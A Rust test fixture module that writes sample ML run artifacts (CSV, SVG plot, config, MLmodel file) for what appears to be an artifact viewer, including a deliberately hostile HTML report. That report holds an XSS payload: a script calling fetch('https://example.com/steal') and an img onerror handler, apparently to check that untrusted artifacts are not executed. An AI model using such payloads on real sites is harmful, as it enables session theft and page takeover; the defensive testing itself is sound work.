//! What the story's runs left behind, some of it hostile.

use super::Story;
use bytes::Bytes;
use domain::RunId;
use ports::ArtifactExt;

/// A page that would rename the tab, if it ever ran.
pub const HOSTILE_HTML: &str = "<!doctype html><title>report</title><script>document.title = 'owned'; fetch('https://example.com/steal')</script>\n\
                                <img src=x onerror=\"document.title = 'owned'\"><p>residuals by hour</p>\n";

const MLMODEL: &str = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    python_version: 3.12.3\n  sklearn:\n    \
                       sklearn_version: 1.9.1\nmlflow_version: 3.17.2\nmodel_size_bytes: 183211\nsignature:\n  inputs: '[{\"type\": \"double\", \"name\": \
                       \"temp\", \"required\": true}, {\"type\": \"double\",\n    \"name\": \"hum\", \"required\": true}, {\"type\": \"double\", \"name\": \"windspeed\", \"required\":\n    \
                       false}, {\"type\": \"long\", \"name\": \"hr\", \"required\": true}]'\n  outputs: '[{\"type\": \"tensor\", \"tensor-spec\": {\"dtype\": \"float64\", \"shape\": \
                       [-1]}}]'\n  params: null\n";

impl Story {
    /// The files of a run and of the model that it logged.
    pub(super) async fn leave_files(&self, run: &RunId, model_path: &str) {
        let folder = format!("1/{run}/artifacts");
        let mut table = String::from("hour,residual,note\n");
        for hour in 0..24 {
            table.push_str(&format!("{hour},{:.3},\"quiet, mostly\"\n", f64::from(hour % 7) - 3.1));
        }
        let mut dots = String::new();
        for n in 0..160u32 {
            let (x, y) = (20 + n * 7 % 360, 100 + (n * 7919 % 97) as i32 - 48);
            dots.push_str(&format!("<circle cx='{x}' cy='{y}' r='3' fill='#0072b2' fill-opacity='.5'/>"));
        }
        let picture = format!(
            "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 400 200'><rect width='400' height='200' fill='#fff'/><path d='M20 100h360' stroke='#888'/>{dots}</svg>"
        );
        let files = [
            (format!("{folder}/plots/resid&al.png"), Bytes::from_static(include_bytes!("residuals.png"))),
            (format!("{folder}/plots/residuals.svg"), picture.into()),
            (format!("{folder}/notes.md"), "# notes\n\nTrained on a quiet spring.\n".into()),
            (format!("{folder}/report.html"), HOSTILE_HTML.into()),
            (format!("{folder}/tables/residuals.csv"), table.into()),
            (format!("{folder}/config.json"), "{\"max_iter\":100,\"loss\":\"poisson\",\"columns\":[\"temp\",\"hum\"]}".into()),
            (format!("{model_path}/MLmodel"), MLMODEL.into()),
        ];
        for (path, bytes) in files {
            self.artifacts.put_bytes(&path, bytes).await.unwrap();
        }
    }
}
